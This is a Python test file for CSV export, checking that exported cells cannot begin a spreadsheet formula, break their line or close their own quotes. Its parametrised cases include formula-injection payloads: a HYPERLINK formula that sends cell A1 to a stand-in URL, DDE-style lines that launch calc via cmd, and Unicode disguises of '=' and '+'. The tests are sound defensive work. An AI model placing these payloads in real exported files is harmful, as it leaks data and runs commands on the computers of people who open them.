"""What leaves for a spreadsheet is data: nothing in it computes, breaks its line or changes its direction."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from blueprints.core import spreadsheets


def _read(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


def _one(value: str) -> str:
    return _read("".join(spreadsheets.lines(["Tête"], [[value]])))[1][0]


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://exemple.fr?"&A1;"Cliquez")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\u202e=1+1",
        "\x00=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "﹢1",
        "⁼1",
        "\u22121",
        "'=1+1",
        '"=1+1',
        "|calc",
        "%0A=1",
    ],
)
def test_nothing_begins_a_formula(attack: str) -> None:
    kept = _one(attack)
    assert kept.startswith("'")
    assert kept.lstrip("'")


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("Awa Diallo", "Awa Diallo"),
        ('dite "Awa"; d’après elle', 'dite "Awa"; d’après elle'),
        ("une\r\ndeux\n=trois", "une deux =trois"),
        ("a\u2028=b\u2029c\x85d", "a =b c d"),
        ("nom\x00caché", "nomcaché"),
        ("fr\u202egnp.exe\u202c", "frgnp.exe"),
        ("\u200fשלום", "שלום"),
        ("👩\u200d🚒", "👩\u200d🚒"),
        ("3 = 2 + 1", "3 = 2 + 1"),
        ("", ""),
    ],
)
def test_what_a_person_sees_is_kept_on_one_line(typed: str, kept: str) -> None:
    assert _one(typed) == kept


def test_a_cell_never_closes_its_own_quotes() -> None:
    assert spreadsheets.cell('";=1+1;"') == '""";=1+1;"""'
    assert _one('x";"=1+1') == 'x";"=1+1'


def test_numbers_are_numbers_and_nothing_is_empty() -> None:
    assert spreadsheets.line([-3, None, "x"]) == '"-3";"";"x"\r\n'


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
def test_whatever_is_typed_gives_as_many_lines_and_cells(rows: list[list[str]]) -> None:
    text = "".join(spreadsheets.lines(["un", "deux"], rows))
    assert text.count("\r\n") == len(rows) + 1
    assert text.replace("\r\n", "").count("\n") == 0
    found = _read(text)
    assert [len(row) for row in found] == [2] * (len(rows) + 1)
    for value in (cell for row in found[1:] for cell in row):
        assert value[:1] not in set("=+-@\t\r＝＋－＠")


def test_a_long_list_leaves_in_pieces() -> None:
    pieces = list(spreadsheets.lines(["n"], ([number] for number in range(1000))))
    assert len(pieces) > 5
    assert max(map(len, pieces)) < 5000
